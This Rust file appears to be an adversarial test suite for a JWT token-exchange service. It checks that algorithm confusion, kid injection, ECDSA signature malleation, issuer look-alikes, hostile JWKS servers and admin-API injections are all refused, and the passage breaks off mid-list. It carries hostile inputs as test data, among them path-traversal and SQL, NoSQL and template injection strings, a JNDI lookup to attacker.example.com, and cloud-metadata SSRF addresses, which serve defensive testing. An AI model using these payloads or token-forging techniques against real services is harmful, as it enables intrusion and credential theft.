//! The adversarial suite: attacks from RFC 8725, RFC 7523 §3, RFC 9700 and published
//! CVEs of JWT libraries and token-exchange servers, beyond the classics in
//! tests/token_exchange.rs (`refuses_the_classic_attacks`) and the JWKS fetch limits in
//! tests/keys.rs. Each attack goes through the real token endpoint (or admin API) against the
//! emulator, signed with the genuine issuer key wherever that makes the attack stronger, so a
//! refusal shows the rule under test and not a bad signature. SECURITY.md maps each to a threat.

use crate::common;

use std::time::{Duration, Instant};

use base64::Engine;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use common::admin::Admin;
use common::jwks_server::{JwksServer, Reply as JwksReply};
use common::keys::{ATTACKER_RSA_2048, EC_P256, RSA_2048, jwks};
use common::stack::*;
use jsonwebtoken::Algorithm as Jws;
use lambda_http::http::StatusCode;
use serde_json::{Value, json};
use trustgate::config;
use trustgate::domain::issuer::Algorithm;
use trustgate::domain::random_hex;

/// Signs `claims` with the stack issuer's RSA key under `header` (raw JSON).
fn rsa_with_header(header: Value, claims: &Value) -> String {
    sign_raw(
        Jws::RS256,
        RSA_2048.private_pem,
        &header.to_string(),
        &claims.to_string(),
    )
}

fn refused(reply: &Reply, why: &str) {
    assert_eq!(
        reply.status,
        StatusCode::BAD_REQUEST,
        "{why}: {}",
        reply.body
    );
    assert_error(reply, StatusCode::BAD_REQUEST, "invalid_request");
}

// ---------------------------------------------------------------------------------------------
// Algorithm confusion (RFC 8725 §2.1, §3.1; CVE-2015-9235, CVE-2016-10555, CVE-2022-21449).

#[tokio::test]
async fn refuses_algorithm_confusion_variants() {
    let stack = Stack::new().await;
    // Issuers are registered before the first exchange: the token function caches them.
    let mut strict = issuer_record(
        "strict",
        &format!("https://strict.example.com/{}", stack.org),
    );
    strict.jwks_uri = Some(stack.jwks.url());
    strict.allowed_algorithms = vec![Algorithm::RS256];
    stack.add_issuer(&strict).await;
    let claims = stack.claims();
    let payload = claims.to_string();
    let es256 = EC_P256.sign_with(Algorithm::ES256, Some("ec-1"), &claims);
    let (_, es_sig) = es256.rsplit_once('.').unwrap();
    let cases: Vec<(&str, String)> = vec![
        // The RSA key's signature, claimed to be by the EC key (kid) under RS256.
        (
            "RS256 signature under the EC key's kid",
            RSA_2048.sign_with(Algorithm::RS256, Some("ec-1"), &claims),
        ),
        // A genuine ES256 signature moved under a header that names ES384.
        ("ES256 signature relabelled ES384", {
            let header = URL_SAFE_NO_PAD.encode(r#"{"alg":"ES384","kid":"ec-1"}"#);
            format!("{header}.{}.{es_sig}", URL_SAFE_NO_PAD.encode(&payload))
        }),
        // …and under RS256 with the RSA kid.
        ("ES256 signature relabelled RS256", {
            let header = URL_SAFE_NO_PAD.encode(r#"{"alg":"RS256","kid":"rsa-1"}"#);
            format!("{header}.{}.{es_sig}", URL_SAFE_NO_PAD.encode(&payload))
        }),
        // HMAC keyed with other public material an attacker can read.
        (
            "HS256 keyed with the JWKS document",
            sign_raw(
                Jws::HS256,
                &jwks(&[RSA_2048.jwk("rsa-1"), EC_P256.jwk("ec-1")]),
                r#"{"alg":"HS256","kid":"rsa-1"}"#,
                &payload,
            ),
        ),
        ("HS512 keyed with the issuer's certificate", {
            let input = format!(
                "{}.{}",
                URL_SAFE_NO_PAD.encode(r#"{"alg":"HS512"}"#),
                URL_SAFE_NO_PAD.encode(&payload)
            );
            let key = jsonwebtoken::EncodingKey::from_secret(RSA_2048.certificate_pem.as_bytes());
            let signature = jsonwebtoken::crypto::sign(input.as_bytes(), &key, Jws::HS512).unwrap();
            format!("{input}.{signature}")
        }),
        (
            "HS256 without kid keyed with the EC key's JWK",
            sign_raw(
                Jws::HS256,
                EC_P256.public_jwk,
                r#"{"alg":"HS256"}"#,
                &payload,
            ),
        ),
    ];
    for (name, token) in cases {
        refused(&stack.exchange(&token).await, name);
    }
    // Spellings of alg that a lax library might normalise.
    for alg in [
        json!("rs256"),
        json!("RS256 "),
        json!("none"),
        json!("NONE"),
        json!("nOnE"),
        json!("ES256K"),
        json!("EdDSA"),
        json!(["RS256"]),
        json!(null),
        json!(256),
    ] {
        let token = rsa_with_header(json!({"alg": alg, "kid": "rsa-1"}), &claims);
        refused(&stack.exchange(&token).await, &format!("alg {alg}"));
    }
    // An issuer that allows only RS256 refuses a PS256 token made with its own RSA key.
    let mut strict_claims = claims.clone();
    strict_claims["iss"] = json!(strict.issuer);
    refused(
        &stack
            .exchange(&RSA_2048.sign_with(Algorithm::PS256, Some("rsa-1"), &strict_claims))
            .await,
        "PS256 where only RS256 is allowed",
    );
    assert_eq!(
        stack
            .exchange(&RSA_2048.sign_with(Algorithm::RS256, Some("rsa-1"), &strict_claims))
            .await
            .status,
        StatusCode::OK
    );
}

// ---------------------------------------------------------------------------------------------
// kid injection: the kid is only ever compared with the issuer's keys' kids, never used as a
// path, query, URL or file name (CVE-2018-0114-like and SQL/NoSQL injection through kid).

#[tokio::test]
async fn kid_injection_strings_match_no_key_and_fetch_nothing_else() {
    let stack = Stack::new().await;
    let claims = stack.claims();
    // Warm the issuer's keys: one JWKS fetch.
    let good = RSA_2048.sign_with(Algorithm::RS256, Some("rsa-1"), &claims);
    assert_eq!(stack.exchange(&good).await.status, StatusCode::OK);
    let fetched = stack.jwks.requests();
    assert_eq!(fetched, 1);
    let attacker =
        JwksServer::start(JwksReply::json(jwks(&[ATTACKER_RSA_2048.jwk("rsa-1")]))).await;

    let kids = [
        "../../../../etc/passwd".to_owned(),
        "/dev/null".to_owned(),
        "' OR 1=1 --".to_owned(),
        "rsa-1' OR '1'='1".to_owned(),
        "{\"$ne\":1}".to_owned(),
        "rsa-1\0".to_owned(),
        "\0".to_owned(),
        "rsa-1%00".to_owned(),
        attacker.url(),
        "file:///etc/passwd".to_owned(),
        "RSA-1".to_owned(),
        " rsa-1".to_owned(),
        "k".repeat(300),
    ];
    for kid in &kids {
        // Signed with the genuine key, so only the kid can be why it is refused.
        let token = rsa_with_header(json!({"alg": "RS256", "kid": kid}), &claims);
        refused(&stack.exchange(&token).await, kid);
        // …and signed with the attacker's key, whose JWKS the attacker serves.
        let token = sign_raw(
            Jws::RS256,
            ATTACKER_RSA_2048.private_pem,
            &json!({"alg": "RS256", "kid": kid}).to_string(),
            &claims.to_string(),
        );
        refused(&stack.exchange(&token).await, kid);
    }
    // A kid as a JSON object or array is a malformed header.
    for kid in [json!({"$ne": 1}), json!(["rsa-1"]), json!(1)] {
        let token = rsa_with_header(json!({"alg": "RS256", "kid": kid}), &claims);
        refused(&stack.exchange(&token).await, &kid.to_string());
    }
    // The unknown kids may cost at most one refetch of the issuer's own JWKS (its cooldown),
    // and nothing is ever fetched from anywhere else.
    assert!(
        stack.jwks.requests() <= fetched + 1,
        "{}",
        stack.jwks.requests()
    );
    assert_eq!(attacker.requests(), 0);
    assert_eq!(stack.exchange(&good).await.status, StatusCode::OK);
}

// ---------------------------------------------------------------------------------------------
// Header parameters: crit (RFC 7515 §4.1.11), nested JWTs (RFC 8725 §2.8, §3.11; RFC 7519 §5.2).

#[tokio::test]
async fn refuses_crit_headers_and_nested_jwts_even_when_genuinely_signed() {
    let stack = Stack::new().await;
    let claims = stack.claims();
    for (name, header) in [
        (
            "crit exp",
            json!({"alg": "RS256", "kid": "rsa-1", "crit": ["exp"], "exp": 1}),
        ),
        (
            "crit empty",
            json!({"alg": "RS256", "kid": "rsa-1", "crit": []}),
        ),
        (
            "crit b64",
            json!({"alg": "RS256", "kid": "rsa-1", "crit": ["b64"], "b64": false}),
        ),
        (
            "crit as a string",
            json!({"alg": "RS256", "kid": "rsa-1", "crit": "exp"}),
        ),
        (
            "crit null",
            json!({"alg": "RS256", "kid": "rsa-1", "crit": null}),
        ),
        (
            "cty JWT",
            json!({"alg": "RS256", "kid": "rsa-1", "cty": "JWT"}),
        ),
        (
            "cty jwt",
            json!({"alg": "RS256", "kid": "rsa-1", "cty": "jwt"}),
        ),
        // RFC 7515 §4.1.10: "application/" may be left out, so these mean the same as "JWT".
        (
            "cty application/jwt",
            json!({"alg": "RS256", "kid": "rsa-1", "cty": "application/jwt"}),
        ),
        (
            "cty Application/JWT",
            json!({"alg": "RS256", "kid": "rsa-1", "cty": "Application/JWT"}),
        ),
        (
            "enc in a JWS header",
            json!({"alg": "RS256", "kid": "rsa-1", "enc": "A256GCM"}),
        ),
    ] {
        refused(
            &stack.exchange(&rsa_with_header(header, &claims)).await,
            name,
        );
    }
    // A real nested JWT: the outer payload is the inner token, not a claims object.
    let inner = RSA_2048.sign_with(Algorithm::RS256, Some("rsa-1"), &claims);
    let outer = format!(
        "{}.{}",
        URL_SAFE_NO_PAD.encode(r#"{"alg":"RS256","kid":"rsa-1"}"#),
        URL_SAFE_NO_PAD.encode(&inner)
    );
    let key = jsonwebtoken::EncodingKey::from_rsa_pem(RSA_2048.private_pem.as_bytes()).unwrap();
    let signature = jsonwebtoken::crypto::sign(outer.as_bytes(), &key, Jws::RS256).unwrap();
    refused(
        &stack.exchange(&format!("{outer}.{signature}")).await,
        "nested without cty",
    );
    // A harmless cty and typ do not matter.
    let fine = rsa_with_header(
        json!({"alg": "RS256", "kid": "rsa-1", "typ": "JWT", "cty": "json"}),
        &claims,
    );
    assert_eq!(stack.exchange(&fine).await.status, StatusCode::OK);
}

// ---------------------------------------------------------------------------------------------
// ECDSA malleability (CVE-2022-21449's neighbourhood; RFC 8725 §3.4): (r, n − s) is a second
// valid signature of the same token. The jti replay record is keyed on the jti claim, not on
// the token's bytes, so the malleated twin is a replay all the same.

/// The order n of the P-256 group.
const P256_N: [u8; 32] = [
    0xFF, 0xFF, 0xFF, 0xFF, 0x00, 0x00, 0x00, 0x00, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF,
    0xBC, 0xE6, 0xFA, 0xAD, 0xA7, 0x17, 0x9E, 0x84, 0xF3, 0xB9, 0xCA, 0xC2, 0xFC, 0x63, 0x25, 0x51,
];

/// `a - b` for 32-byte big-endian numbers with a ≥ b.
fn sub_be(a: &[u8; 32], b: &[u8]) -> [u8; 32] {
    let mut out = [0u8; 32];
    let mut borrow = 0i16;
    for i in (0..32).rev() {
        let mut d = i16::from(a[i]) - i16::from(b[i]) - borrow;
        borrow = i16::from(d < 0);
        if d < 0 {
            d += 256;
        }
        out[i] = d as u8;
    }
    assert_eq!(borrow, 0);
    out
}

fn malleate(token: &str) -> String {
    let (input, sig) = token.rsplit_once('.').unwrap();
    let sig = URL_SAFE_NO_PAD.decode(sig).unwrap();
    let mut twin = sig[..32].to_vec();
    twin.extend(sub_be(&P256_N, &sig[32..]));
    assert_ne!(twin, sig);
    format!("{input}.{}", URL_SAFE_NO_PAD.encode(twin))
}

#[tokio::test]
async fn an_ecdsa_malleated_twin_is_still_a_jti_replay() {
    let stack = Stack::new().await;
    let mut issuer = issuer_record(
        "ec-jti",
        &format!("https://ec-jti.example.com/{}", stack.org),
    );
    issuer.jwks_uri = Some(stack.jwks.url());
    issuer.require_jti = true;
    stack.add_issuer(&issuer).await;
    let mut claims = stack.claims();
    claims["iss"] = json!(issuer.issuer);

    // Original first, then its twin.
    claims["jti"] = json!(random_hex(8));
    let token = EC_P256.sign_with(Algorithm::ES256, Some("ec-1"), &claims);
    assert_eq!(stack.exchange(&token).await.status, StatusCode::OK);
    let twin = stack.exchange(&malleate(&token)).await;
    refused(&twin, "malleated twin of a used token");
    assert!(
        twin.body["error_description"]
            .as_str()
            .unwrap()
            .contains("already used")
    );

    // Twin first, then the original: the twin verifies (aws-lc, like RFC 7518, does not
    // insist on low-S), and the original is then the replay.
    claims["jti"] = json!(random_hex(8));
    let token = EC_P256.sign_with(Algorithm::ES256, Some("ec-1"), &claims);
    assert_eq!(
        stack.exchange(&malleate(&token)).await.status,
        StatusCode::OK
    );
    refused(&stack.exchange(&token).await, "original after its twin");
}

// ---------------------------------------------------------------------------------------------
// Issuer look-alikes (RFC 8725 §3.8: iss compared exactly) and audiences (RFC 7519 §4.1.3,
// RFC 7523 §3 item 3).

#[tokio::test]
async fn issuer_look_alikes_are_not_the_trusted_issuer() {
    let stack = Stack::new().await;
    let iss = stack.issuer.issuer.clone();
    let look_alikes = [
        format!("{iss}/"),
        iss.to_uppercase(),
        iss.replace("https://", "HTTPS://"),
        iss.replace("example", "exаmple"), // Cyrillic а
        iss.replace("idp", "іdp"),         // Cyrillic і
        format!("{iss} "),
        format!(" {iss}"),
        format!("{iss}\n"),
        format!("{iss}\0"),
        iss.replace("idp.example.com", "idp.example.com:443"),
        iss.replace("idp.example.com", "idp.example.com."),
        iss.replace('/', "%2F"),
        iss.replace("idp", "%69dp"),
        iss.replace("https", "http"),
        format!("{iss}#"),
        format!("{iss}?"),
        format!("{iss}/../{}", stack.org),
    ];
    for fake in look_alikes {
        let mut claims = stack.claims();
        claims["iss"] = json!(fake);
        let reply = stack
            .exchange(&RSA_2048.sign_with(Algorithm::RS256, Some("rsa-1"), &claims))
            .await;
        refused(&reply, &fake);
        assert!(
            reply.body["error_description"]
                .as_str()
                .unwrap()
                .contains("not trusted"),
            "{fake}: {}",
            reply.body
        );
    }
    for iss in [
        json!(null),
        json!(1),
        json!([stack.issuer.issuer]),
        json!({"a": 1}),
    ] {
        let mut claims = stack.claims();
        claims["iss"] = iss.clone();
        let reply = stack
            .exchange(&RSA_2048.sign_with(Algorithm::RS256, Some("rsa-1"), &claims))
            .await;
        refused(&reply, &iss.to_string());
    }
}

#[tokio::test]
async fn aud_is_accepted_as_a_string_or_an_array_holding_this_organization() {
    let stack = Stack::new().await;
    let org = stack.org_issuer();
    let alias = stack.issuer.alias.clone().unwrap();
    let with_aud = |aud: Value| {
        let mut claims = stack.claims();
        claims["aud"] = aud;
        RSA_2048.sign_with(Algorithm::RS256, Some("rsa-1"), &claims)
    };
    for aud in [
        json!(org),
        json!([org]),
        json!(["https://other.example.com", org]),
        json!(alias),
        json!([alias, "x"]),
    ] {
        let reply = stack.exchange(&with_aud(aud.clone())).await;
        assert_eq!(reply.status, StatusCode::OK, "{aud}: {}", reply.body);
    }
    for aud in [
        json!(format!("{org}/")),
        json!(org.to_uppercase()),
        json!(format!(" {org}")),
        json!(""),
        json!([]),
        json!([[org]]),
        json!([org, 1]),
        json!([null, org]),
        json!({"aud": org}),
        json!(1),
        json!(true),
        json!(org.replace(&stack.org, "other-org")),
        json!(PUBLIC_URL),
    ] {
        refused(
            &stack.exchange(&with_aud(aud.clone())).await,
            &aud.to_string(),
        );
    }
}

// ---------------------------------------------------------------------------------------------
// NumericDate edges (RFC 7519 §2; GHSA-h395-gr6q-cpjc and the float/huge/negative cases).

#[tokio::test]
async fn numeric_date_edges_are_read_as_numbers_and_nothing_else() {
    let stack = Stack::new().await;
    let now = trustgate::domain::now_epoch();
    let sign_raw_claims = |patch: &[(&str, &str)]| {
        // Raw JSON text so that numbers reach the service exactly as written.
        let mut claims = stack.claims();
        for (name, _) in patch {
            claims.as_object_mut().unwrap().remove(*name);
        }
        let mut text = claims.to_string();
        text.pop();
        for (name, raw) in patch {
            text.push_str(&format!(r#","{name}":{raw}"#));
        }
        text.push('}');
        sign_raw(
            Jws::RS256,
            RSA_2048.private_pem,
            r#"{"alg":"RS256","kid":"rsa-1"}"#,
            &text,
        )
    };
    let future_float = format!("{}.75", now + 300);
    let accepted: Vec<Vec<(&str, String)>> = vec![
        vec![("exp", future_float.clone())],
        vec![("exp", format!("{}e0", now + 300))],
        vec![("exp", format!("{}", now + 86_000))],
        vec![("iat", "-1".into())],
        vec![("iat", "0".into())],
        vec![("nbf", "-1e300".into())],
        vec![("nbf", format!("{}.5", now))],
    ];
    for patch in accepted {
        let raw: Vec<(&str, &str)> = patch.iter().map(|(n, v)| (*n, v.as_str())).collect();
        let reply = stack.exchange(&sign_raw_claims(&raw)).await;
        assert_eq!(reply.status, StatusCode::OK, "{patch:?}: {}", reply.body);
        // The issued token's lifetime is the application's, whatever the subject token says.
        let (_, issued) = stack
            .verify_issued(reply.body["access_token"].as_str().unwrap())
            .await;
        assert!(issued["exp"].as_i64().unwrap() <= now + 900 + 5);
    }
    let refused_cases: Vec<(&str, String)> = vec![
        ("exp", "-1".into()),
        ("exp", "0".into()),
        ("exp", "-1e300".into()),
        ("exp", format!("{}.5", now - 120)),
        ("exp", "1e400".into()), // out of f64 range: not a valid number here
        ("exp", "true".into()),
        ("exp", "null".into()),
        ("exp", format!("[{}]", now + 300)),
        ("exp", format!(r#"{{"$gt":{}}}"#, now)),
        ("exp", format!(r#""{}""#, now + 300)),
        ("exp", format!(r#""{}.0""#, now + 300)),
        // The stack's issuer has no max_token_age_seconds: exp at most 24 h ahead.
        ("exp", "1e300".into()),
        ("exp", "9223372036854775807".into()),
        ("exp", "18446744073709551616".into()),
        ("exp", format!("{}", now + 86_400 + 60)),
        ("nbf", "1e300".into()),
        ("nbf", format!("{}", now + 3600)),
        ("nbf", "false".into()),
        ("iat", "1e300".into()),
        ("iat", r#""0""#.into()),
        ("iat", "[]".into()),
    ];
    for (name, raw) in refused_cases {
        refused(
            &stack.exchange(&sign_raw_claims(&[(name, &raw)])).await,
            &format!("{name}={raw}"),
        );
    }
}

#[tokio::test]
async fn a_huge_exp_with_require_jti_records_the_jti_without_overflow() {
    let stack = Stack::new().await;
    let mut issuer = issuer_record("huge", &format!("https://huge.example.com/{}", stack.org));
    issuer.jwks_uri = Some(stack.jwks.url());
    issuer.require_jti = true;
    issuer.max_token_age_seconds = Some(600);
    stack.add_issuer(&issuer).await;
    for exp in [json!(1e300), json!(i64::MAX), json!(u64::MAX)] {
        let mut claims = stack.claims();
        claims["iss"] = json!(issuer.issuer);
        claims["exp"] = exp.clone();
        claims["jti"] = json!(random_hex(8));
        let token = RSA_2048.sign_with(Algorithm::RS256, Some("rsa-1"), &claims);
        assert_eq!(stack.exchange(&token).await.status, StatusCode::OK, "{exp}");
        refused(&stack.exchange(&token).await, "replay");
    }
    // max_token_age_seconds bounds what a far exp could otherwise give: an old iat is refused.
    let mut claims = stack.claims();
    claims["iss"] = json!(issuer.issuer);
    claims["exp"] = json!(1e300);
    claims["iat"] = json!(-1);
    claims["jti"] = json!(random_hex(8));
    refused(
        &stack
            .exchange(&RSA_2048.sign_with(Algorithm::RS256, Some("rsa-1"), &claims))
            .await,
        "iat -1 with max age",
    );
}

// ---------------------------------------------------------------------------------------------
// Our own tokens (RFC 8693 §2.1, RFC 9700 §4.10: tokens must not be replayed at another
// audience): an access or refresh token of this service is a subject token only in a chained
// exchange the application's policy allows ("self"), sent as an access token.

#[tokio::test]
async fn a_token_from_this_service_is_not_a_subject_token() {
    let stack = Stack::new().await;
    let reply = stack
        .exchange(&RSA_2048.sign_with(Algorithm::RS256, Some("rsa-1"), &stack.claims()))
        .await;
    let own = reply.body["access_token"].as_str().unwrap().to_owned();
    let reply = stack.exchange(&own).await;
    refused(&reply, "own access token");
    assert!(
        reply.body["error_description"]
            .as_str()
            .unwrap()
            .contains("accepted only as token type access_token")
    );
    // As an access token, by the client it was issued to, whose policy does not list "self".
    let request = form_request(
        &stack.token_path(),
        &[
            ("grant_type", TOKEN_EXCHANGE),
            ("subject_token", &own),
            (
                "subject_token_type",
                "urn:ietf:params:oauth:token-type:access_token",
            ),
        ],
        Some((&stack.client_id, &stack.secret)),
    );
    let reply = call(&stack.token, request).await;
    refused(&reply, "own access token without self");
    assert!(
        reply.body["error_description"]
            .as_str()
            .unwrap()
            .contains("may not exchange tokens of this issuer")
    );

    // Even if an administrator registers the organization's own issuer value as a trusted
    // issuer with the service's own keys, the token is for the client (aud = client_id), not
    // for this organization's token endpoint: refused on audience.
    let service_jwks =
        JwksServer::start(JwksReply::json(stack.service_jwks().await.to_string())).await;
    let mut itself = issuer_record("itself", &stack.org_issuer());
    itself.alias = None;
    itself.jwks_uri = Some(service_jwks.url());
    stack.add_issuer(&itself).await;
    // A token function with a cold record cache, so it reads the new issuer.
    let config = config(&stack.app, &[]);
    let cold = token_app(
        &stack.app,
        config.clone(),
        std::sync::Arc::new(stack.app.table.clone()),
        std::sync::Arc::new(kms_signer(&stack.app, &config)),
    );
    let reply = call(&cold, stack.exchange_request(&own)).await;
    refused(&reply, "own access token, own issuer registered");

    // A refresh token is opaque, not a JWS.
    let refresh = random_hex(32);
    refused(&stack.exchange(&refresh).await, "opaque string");
}

// ---------------------------------------------------------------------------------------------
// JWKS abuse through the token endpoint (the fetcher's own limits are in tests/keys.rs).

#[tokio::test]
async fn hostile_jwks_endpoints_give_a_contract_error_in_bounded_time() {
    let stack = Stack::new().await;
    // 10,000 keys, the genuine one last (several MB, over the 256 KiB limit); 5 MB declared
    // or chunked; a redirect to a server with the attacker's key.
    let mut keys: Vec<Value> = (0..10_000)
        .map(|i| RSA_2048.jwk(&format!("junk-{i}")))
        .collect();
    keys.push(RSA_2048.jwk("rsa-1"));
    let many = JwksServer::start(JwksReply::json(jwks(&keys))).await;
    let huge_declared = JwksServer::start(JwksReply::Huge {
        bytes: 5 * 1024 * 1024,
        content_length: true,
    })
    .await;
    let huge_chunked = JwksServer::start(JwksReply::Huge {
        bytes: 5 * 1024 * 1024,
        content_length: false,
    })
    .await;
    let attacker =
        JwksServer::start(JwksReply::json(jwks(&[ATTACKER_RSA_2048.jwk("rsa-1")]))).await;
    let redirect = JwksServer::start(JwksReply::Redirect(attacker.url())).await;
    let servers = [
        ("many", &many),
        ("huge-declared", &huge_declared),
        ("huge-chunked", &huge_chunked),
        ("redirect", &redirect),
    ];
    // Issuers are registered before the first exchange: the token function caches them.
    let mut issuers = Vec::new();
    for (name, server) in servers {
        let mut issuer = issuer_record(name, &format!("https://{name}.example.com/{}", stack.org));
        issuer.jwks_uri = Some(server.url());
        stack.add_issuer(&issuer).await;
        issuers.push(issuer);
    }
    for (issuer, key) in issuers
        .iter()
        .zip([RSA_2048, RSA_2048, RSA_2048, ATTACKER_RSA_2048])
    {
        let mut claims = stack.claims();
        claims["iss"] = json!(issuer.issuer);
        let started = Instant::now();
        let reply = stack
            .exchange(&key.sign_with(Algorithm::RS256, Some("rsa-1"), &claims))
            .await;
        // A failed fetch and no cached key: 503, promptly, and never the attacker's keys.
        assert_error(
            &reply,
            StatusCode::SERVICE_UNAVAILABLE,
            "temporarily_unavailable",
        );
        assert!(reply.headers.get("retry-after").is_some());
        assert!(
            started.elapsed() < Duration::from_secs(3),
            "{}: {:?}",
            issuer.name,
            started.elapsed()
        );
    }
    assert_eq!(redirect.requests(), 1);
    assert_eq!(attacker.requests(), 0);
}

/// With the production setting (no insecure JWKS), a stored issuer whose `jwks_uri` points at a
/// private or metadata address (written before a rule change, or straight into the table) is
/// never fetched: a 500 for the operator, never a connection.
#[tokio::test]
async fn a_stored_jwks_uri_to_a_private_address_is_never_fetched() {
    let stack = Stack::with_config(&[(config::ALLOW_INSECURE_JWKS, "false")]).await;
    let local = JwksServer::start(JwksReply::json(jwks(&[RSA_2048.jwk("rsa-1")]))).await;
    let port = local.port();
    let uris = [
        format!("https://127.0.0.1:{port}/jwks"),
        format!("https://[::ffff:7f00:1]:{port}/jwks"),
        format!("https://0x7f000001:{port}/jwks"),
        format!("https://localhost:{port}/jwks"),
        "https://169.254.169.254/latest/meta-data/".to_owned(),
        "https://[fd00:ec2::254]/".to_owned(),
        format!("http://127.0.0.1:{port}/jwks"),
    ];
    let mut issuers = Vec::new();
    for (i, uri) in uris.iter().enumerate() {
        let mut issuer = issuer_record(
            &format!("p{i}"),
            &format!("https://p{i}.example.com/{}", stack.org),
        );
        issuer.jwks_uri = Some(uri.clone());
        stack.add_issuer(&issuer).await;
        issuers.push(issuer);
    }
    for (issuer, uri) in issuers.iter().zip(&uris) {
        let mut claims = stack.claims();
        claims["iss"] = json!(issuer.issuer);
        let started = Instant::now();
        let reply = stack
            .exchange(&RSA_2048.sign_with(Algorithm::RS256, Some("rsa-1"), &claims))
            .await;
        assert_error(&reply, StatusCode::INTERNAL_SERVER_ERROR, "server_error");
        assert!(
            !reply.body.to_string().contains("127.0.0.1"),
            "{uri}: {}",
            reply.body
        );
        assert!(started.elapsed() < Duration::from_secs(3), "{uri}");
    }
    assert_eq!(local.connections(), 0);
}

/// `TRUSTGATE_ALLOW_INSECURE_JWKS=true` (the stack's default here) opens loopback and private
/// targets for local development, never link-local or cloud-metadata ones: a stored issuer
/// pointing there is a 500 for the operator, without a connection attempt.
#[tokio::test]
async fn even_the_insecure_flag_never_fetches_keys_from_a_metadata_address() {
    let stack = Stack::new().await;
    let uris = [
        "http://169.254.169.254/latest/meta-data/",
        "http://[::ffff:169.254.169.254]/",
        "http://[fe80::1]/jwks",
        "http://[fd00:ec2::254]/",
    ];
    let mut issuers = Vec::new();
    for (i, uri) in uris.iter().enumerate() {
        let mut issuer = issuer_record(
            &format!("m{i}"),
            &format!("https://m{i}.example.com/{}", stack.org),
        );
        issuer.jwks_uri = Some((*uri).to_owned());
        stack.add_issuer(&issuer).await;
        issuers.push(issuer);
    }
    // All stored before the first exchange reads (and caches) the organization's issuers.
    for (issuer, uri) in issuers.iter().zip(uris) {
        let mut claims = stack.claims();
        claims["iss"] = json!(issuer.issuer);
        let started = Instant::now();
        let reply = stack
            .exchange(&RSA_2048.sign_with(Algorithm::RS256, Some("rsa-1"), &claims))
            .await;
        assert_error(&reply, StatusCode::INTERNAL_SERVER_ERROR, "server_error");
        assert!(started.elapsed() < Duration::from_secs(1), "{uri}");
    }
}

// ---------------------------------------------------------------------------------------------
// Admin inputs: injection strings are data, oversize fields and wrong types are 400 naming the
// field, path injection is 404.

#[tokio::test]
async fn admin_injection_strings_are_stored_as_data() {
    let admin = Admin::new().await;
    let org = admin.organization().await;
    let path = format!("/t/{org}/api/trusted-token-issuers");
    for (i, text) in [
        "' OR 1=1 --",
        "\"; DROP TABLE trustgate; --",
        "{\"$ne\": null}",
        "<script>alert(1)</script>",
        "${jndi:ldap://attacker.example.com/a}",
        "{{7*7}}",
        "../../etc/passwd",
        "#pk = :pk",
        "\u{202e}evil",
    ]
    .into_iter()
    .enumerate()
    {
        let name = format!("{text} {i}");
        let reply = admin
            .post(
                &path,
                json!({"name": name, "issuer": format!("https://i{i}.example.com/{text}"), "jwks_uri": "https://idp.example.com/jwks", "alias": text}),
            )
            .await;
        assert_eq!(reply.status, 201, "{text}: {:#}", reply.body);
        assert_eq!(reply.body["name"], json!(name));
        let id = reply.body["id"].as_str().unwrap();
        let read = admin.get(&format!("{path}/{id}")).await;
        assert_eq!(read.body["name"], json!(name));
        assert_eq!(read.body["alias"], json!(text));
    }
    // Injection in path segments: never a lookup of something else.
    for segment in [
        "'%20OR%201=1%20--",
        "..%2F..%2Fapi%2Forganizations",
        "%00",
        "*",
        "x%22%7D",
    ] {
        let reply = admin.get(&format!("{path}/{segment}")).await;
        assert_eq!(reply.status, 404, "{segment}: {:#}", reply.body);
        let reply = admin
            .get(&format!("/t/{org}/api/applications/{segment}"))
            .await;
        assert_eq!(reply.status, 404, "{segment}: {:#}", reply.body);
    }
    let reply = admin.get("/t/..%2Fapi/api/applications").await;
    assert_eq!(reply.status, 404);
}

#[tokio::test]
async fn admin_oversize_fields_and_wrong_types_are_400_naming_the_field() {
    let admin = Admin::new().await;
    let org = admin.organization().await;
    let issuers = format!("/t/{org}/api/trusted-token-issuers");
    let apps = format!("/t/{org}/api/applications");
    let issuer = |member: &str, value: Value| {
        let mut body = json!({"name": "n", "issuer": "https://i.example.com", "jwks_uri": "https://idp.example.com/jwks"});
        body[member] = value;
        body
    };
    let app = |member: &str, value: Value| {
        let mut body = json!({"name": "n", "type": "web", "grant_types": ["urn:ietf:params:oauth:grant-type:token-exchange"]});
        body[member] = value;
        body
    };
    let cases = vec![
        (&issuers, issuer("name", json!("n".repeat(129))), "name"),
        (&issuers, issuer("name", json!("n".repeat(10_000))), "name"),
        (&issuers, issuer("name", json!("a\u{0000}b")), "name"),
        (&issuers, issuer("name", json!(["n"])), "name"),
        (&issuers, issuer("name", json!({"$ne": 1})), "name"),
        (
            &issuers,
            issuer("issuer", json!("i".repeat(2049))),
            "issuer",
        ),
        (&issuers, issuer("issuer", json!(1)), "issuer"),
        (&issuers, issuer("alias", json!("a".repeat(2049))), "alias"),
        (
            &issuers,
            issuer("jwks_uri", json!("file:///etc/passwd")),
            "jwks_uri",
        ),
        (
            &issuers,
            issuer("jwks_uri", json!("gopher://idp.example.com/")),
            "jwks_uri",
        ),
        (
            &issuers,
            issuer("jwks_uri", json!("https://0x7f000001/jwks")),
            "jwks_uri",
        ),
        (
            &issuers,
            issuer("jwks_uri", json!("https://2130706433/jwks")),
            "jwks_uri",
        ),
        (
            &issuers,
            issuer("jwks_uri", json!("https://0177.0.0.1/jwks")),
            "jwks_uri",
        ),
        (
            &issuers,
            issuer("jwks_uri", json!("https://[::ffff:169.254.169.254]/")),
            "jwks_uri",
        ),
        (
            &issuers,
            issuer("jwks_uri", json!("https://user:pw@127.0.0.1/")),
            "jwks_uri",
        ),
        (
            &issuers,
            issuer(
                "jwks_uri",
                json!(format!("https://idp.example.com/{}", "a".repeat(10_000))),
            ),
            "jwks_uri",
        ),
        (
            &issuers,
            issuer("clock_skew_seconds", json!("60")),
            "clock_skew_seconds",
        ),
        (
            &issuers,
            issuer("clock_skew_seconds", json!(60.5)),
            "clock_skew_seconds",
        ),
        (
            &issuers,
            issuer("clock_skew_seconds", json!(-1)),
            "clock_skew_seconds",
        ),
        (
            &issuers,
            issuer("clock_skew_seconds", json!(1e300)),
            "clock_skew_seconds",
        ),
        (
            &issuers,
            issuer("clock_skew_seconds", json!(u64::MAX)),
            "clock_skew_seconds",
        ),
        (
            &issuers,
            issuer("clock_skew_seconds", json!(true)),
            "clock_skew_seconds",
        ),
        (
            &issuers,
            issuer("max_token_age_seconds", json!(-5)),
            "max_token_age_seconds",
        ),
        (
            &issuers,
